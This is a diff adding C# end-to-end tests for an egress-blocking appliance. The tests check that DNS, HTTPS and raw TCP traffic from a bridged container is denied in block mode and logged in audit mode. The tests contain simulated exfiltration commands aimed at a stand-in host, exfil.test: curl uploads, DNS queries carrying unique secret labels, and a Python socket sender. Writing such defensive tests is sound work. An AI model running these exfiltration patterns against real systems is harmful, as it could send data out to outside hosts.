@@ -1,0 +1,103 @@
+using System.Globalization;
+using System.Text.Json;
+using HardenRunner.EndToEnd.Tests.Support;
+using HardenRunner.Lab;
+using TestLab = HardenRunner.Lab.Lab;
+
+namespace HardenRunner.EndToEnd.Tests;
+
+/// <summary>
+/// A "container" network namespace behind a bridge named like a Docker user-defined network (<c>br-hrlab</c>, not
+/// docker0): its DNS, HTTPS and raw TCP cross the runner's forward path and meet the same enforcement as the
+/// runner's own processes, over IPv4 and IPv6. The container shares the runner's files (as a container started with
+/// the runner's trust bundle mounted would), so it trusts the appliance's CA through the system bundle.
+/// </summary>
+public sealed class ContainerTrafficTests
+{
+    private static readonly TimeSpan ClientTimeout = TimeSpan.FromSeconds(20);
+    private static readonly TimeSpan Wait = TimeSpan.FromSeconds(10);
+
+    private const string Send = """
+        import socket, sys
+        addr, port, payload = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
+        s = socket.socket(socket.AF_INET6 if ':' in addr else socket.AF_INET, socket.SOCK_STREAM); s.settimeout(3)
+        s.connect((addr, port)); s.sendall(payload); s.close()
+        """;
+
+    private static Task<LabProcessResult> SendFromContainer(TestLab lab, string address, int port, string payload) =>
+        lab.RunInContainerAsync("python3", ["-c", Send, address, port.ToString(CultureInfo.InvariantCulture), payload], ClientTimeout);
+
+    private static Task<LabProcessResult> DigFromContainer(TestLab lab, params string[] args) =>
+        lab.RunInContainerAsync("dig", ["+time=2", "+tries=1", .. args], ClientTimeout);
+
+    private static bool IsForwardedDeny(JsonElement e, string address, string action) =>
+        e.GetProperty("type").GetString() == "network" && e.GetProperty("address").GetString() == address && e.GetProperty("port").GetInt32() == 9000
+        && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == action
+        && (e.GetProperty("rule").GetString() ?? "").Contains(LabAddresses.BridgeInterface, StringComparison.Ordinal);
+
+    [SkippableFact]
+    public async Task BlockMode_ContainerBehindBrBridge_DnsHttpsAndRawTcpExfiltrationHeld_AllowedTrafficPasses()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions { Container = true });
+        await using var appliance = await ApplianceProcess.StartAsync(lab, EnforcementCoreTests.Policy, "--upstream-ca", lab.CaCertificatePath);
+
+        // DNS: whatever resolver the container asks (Docker copies the host's upstream into it), the appliance answers
+        var allowed = await DigFromContainer(lab, "@" + lab.DnsV4, "allowed.test", "A", "+short");
+        Assert.Equal(lab.Allowed.V4.ToString(), allowed.StandardOutput.Trim());
+        var secret4 = EnforcementCoreTests.Unique("c4") + ".exfil.test";
+        var secret6 = EnforcementCoreTests.Unique("c6") + ".exfil.test";
+        Assert.Contains("status: NXDOMAIN", (await DigFromContainer(lab, "@" + lab.DnsV4, secret4, "A")).StandardOutput, StringComparison.Ordinal);
+        Assert.Contains("status: NXDOMAIN", (await DigFromContainer(lab, "@" + lab.DnsV6, secret6, "AAAA")).StandardOutput, StringComparison.Ordinal);
+        Assert.Contains("status: NXDOMAIN", (await DigFromContainer(lab, "+tcp", "@" + lab.DnsV4, "tcp." + secret4, "TXT")).StandardOutput, StringComparison.Ordinal);
+
+        // HTTPS: a denied host is refused by the proxy; an allowed one passes, intercepted with the appliance's CA
+        var exfil = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "5", "--resolve", $"exfil.test:443:{lab.Exfil.V4}", "https://exfil.test/upload"], ClientTimeout);
+        Assert.False(exfil.Succeeded, exfil.ToString());
+        var exfil6 = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "5", "--resolve", $"exfil.test:443:[{lab.Exfil.V6}]", "https://exfil.test/upload6"], ClientTimeout);
+        Assert.False(exfil6.Succeeded, exfil6.ToString());
+        var ok = await lab.RunInContainerAsync("curl", ["-sS", "--max-time", "10", "--resolve", $"allowed.test:443:{lab.Allowed.V4}", "https://allowed.test/from-container"], ClientTimeout);
+        Assert.True(ok.Succeeded, ok.ToString());
+        Assert.Equal("lab:allowed.test", ok.StandardOutput.Trim());
+
+        // raw TCP: to a denied address dropped (v4 and v6); to the policy's CIDR passes
+        var p4 = EnforcementCoreTests.Unique("ctr4-");
+        var p6 = EnforcementCoreTests.Unique("ctr6-");
+        var pOk = EnforcementCoreTests.Unique("ctrok-");
+        Assert.False((await SendFromContainer(lab, lab.Exfil.V4.ToString(), 9000, p4)).Succeeded);
+        Assert.False((await SendFromContainer(lab, lab.Exfil.V6.ToString(), 9000, p6)).Succeeded);
+        var passed = await SendFromContainer(lab, "198.51.100.31", 9000, pOk);
+        Assert.True(passed.Succeeded, passed.ToString());
+        var record = await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(pOk, StringComparison.Ordinal), Wait);
+        Assert.Equal(LabAddresses.ContainerV4.ToString(), record.RemoteAddress);
+
+        // nothing denied reached the internet; the denials are events naming the bridge
+        Assert.True(await lab.DnsLog.NoneWithinAsync(r => r.Name.Contains(secret4, StringComparison.OrdinalIgnoreCase) || r.Name.Contains(secret6, StringComparison.OrdinalIgnoreCase), TimeSpan.FromSeconds(1)));
+        Assert.True(await lab.HttpLog.NoneWithinAsync(r => r.Server == "exfil.test", TimeSpan.FromSeconds(1)));
+        Assert.True(await lab.TcpLog.NoneWithinAsync(r => r.Preview.Contains(p4, StringComparison.Ordinal) || r.Preview.Contains(p6, StringComparison.Ordinal), TimeSpan.FromSeconds(1)));
+        await appliance.WaitForEventAsync(e => IsForwardedDeny(e, lab.Exfil.V4.ToString(), "blocked"), Wait);
+        await appliance.WaitForEventAsync(e => IsForwardedDeny(e, lab.Exfil.V6.ToString(), "blocked"), Wait);
+        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "https" && e.GetProperty("host").GetString() == "exfil.test" && e.GetProperty("action").GetString() == "blocked", Wait);
+    }
+
+    [SkippableFact]
+    public async Task AuditMode_ContainerTraffic_PassesAndIsRecordedAsForwardedFromTheBridge()
+    {
+        Skip.IfNot(LabEnvironment.CanRun, LabEnvironment.SkipReason);
+        await using var lab = await TestLab.StartAsync(new LabOptions { Container = true });
+        var policy = EnforcementCoreTests.Policy.Replace("egress-policy: block", "egress-policy: audit", StringComparison.Ordinal);
+        await using var appliance = await ApplianceProcess.StartAsync(lab, policy, "--upstream-ca", lab.CaCertificatePath);
+
+        var payload = EnforcementCoreTests.Unique("ctraudit-");
+        var sent = await SendFromContainer(lab, lab.Exfil.V4.ToString(), 9000, payload);
+        Assert.True(sent.Succeeded, sent.ToString());
+        await lab.TcpLog.WaitForAsync(r => r.Preview.Contains(payload, StringComparison.Ordinal), Wait);
+        await appliance.WaitForEventAsync(e => IsForwardedDeny(e, lab.Exfil.V4.ToString(), "passed"), Wait);
+
+        var name = EnforcementCoreTests.Unique("ca") + ".exfil.test";
+        var dig = await DigFromContainer(lab, "@" + lab.DnsV4, name, "A");
+        Assert.Contains("status: NOERROR", dig.StandardOutput, StringComparison.Ordinal);
+        await appliance.WaitForEventAsync(e => e.GetProperty("type").GetString() == "network" && e.GetProperty("kind").GetString() == "dns"
+            && string.Equals(e.GetProperty("host").GetString(), name, StringComparison.OrdinalIgnoreCase) && e.GetProperty("decision").GetString() == "deny" && e.GetProperty("action").GetString() == "passed", Wait);
+    }
+}
